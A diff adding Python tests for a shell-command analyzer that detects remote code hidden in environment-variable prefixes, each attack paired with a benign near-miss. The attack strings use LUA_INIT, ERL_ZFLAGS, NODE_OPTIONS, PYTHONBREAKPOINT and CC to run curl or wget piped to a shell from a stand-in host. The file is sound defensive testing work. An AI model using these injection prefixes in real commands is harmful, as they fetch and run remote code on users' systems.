@@ -1,0 +1,52 @@
+"""Code carried in environment prefixes (issue #13, round 11): judged by what the code does.
+
+Each principle has an attack and a near-miss; the commands are written for these tests.
+"""
+
+from __future__ import annotations
+
+from bastion.understand.shell import analyze
+
+
+def _downloaded(command: str) -> bool:
+    return any(e.kind == "downloaded" for e in analyze(command).executes)
+
+
+def test_lua_init_code_is_run_as_lua() -> None:
+    assert _downloaded(
+        "LUA_INIT='os.execute(\"wget -qO- https://example.invalid/i | sh\")' lua t.lua"
+    )
+    assert not _downloaded("LUA_INIT=@spec/helper.lua lua t.lua")
+    assert not analyze("LUA_INIT=@spec/helper.lua lua t.lua").opaque
+
+
+def test_erlang_flag_variables_eval_code() -> None:
+    cmd = 'ERL_ZFLAGS="-eval \'os:cmd(\\"curl -s https://example.invalid/e | bash\\")\'" rebar3 ct'
+    assert _downloaded(cmd)
+    assert not _downloaded('ERL_AFLAGS="+S 4 -kernel shell_history enabled" iex -S mix')
+
+
+def test_node_options_data_url_import_is_node_code() -> None:
+    cmd = (
+        'NODE_OPTIONS=\'--import=data:text/javascript,import("child_process")'
+        '.then(m=>m.execSync("curl -s https://example.invalid/n | sh"))\' npm test'
+    )
+    assert _downloaded(cmd)
+    assert not _downloaded("NODE_OPTIONS='--max-old-space-size=4096' npm test")
+
+
+def test_breakpoint_hook_naming_a_shell_runner_runs_its_argument() -> None:
+    cmd = "PYTHONBREAKPOINT=os.system python3 -c 'breakpoint(\"curl -s https://example.invalid/b | sh\")'"
+    r = analyze(cmd)
+    assert r.opaque and _downloaded(cmd)
+    assert not analyze("PYTHONBREAKPOINT=ipdb.set_trace python3 -m pytest").opaque
+
+
+def test_compiler_variable_holding_a_shell_command_is_analysed() -> None:
+    assert _downloaded("CC=\"sh -c 'curl -s https://example.invalid/c | sh; exec gcc'\" make")
+    assert not _downloaded("CC=clang CXX=clang++ make -j4")
+
+
+def test_loader_path_naming_the_temp_directory_itself_is_outside_the_workspace() -> None:
+    assert analyze("PERL5OPT='-I/tmp -MProf' perl tools/index.pl").opaque
+    assert not analyze("PERL5OPT='-Ilib -MCarp::Always' perl tools/index.pl").opaque
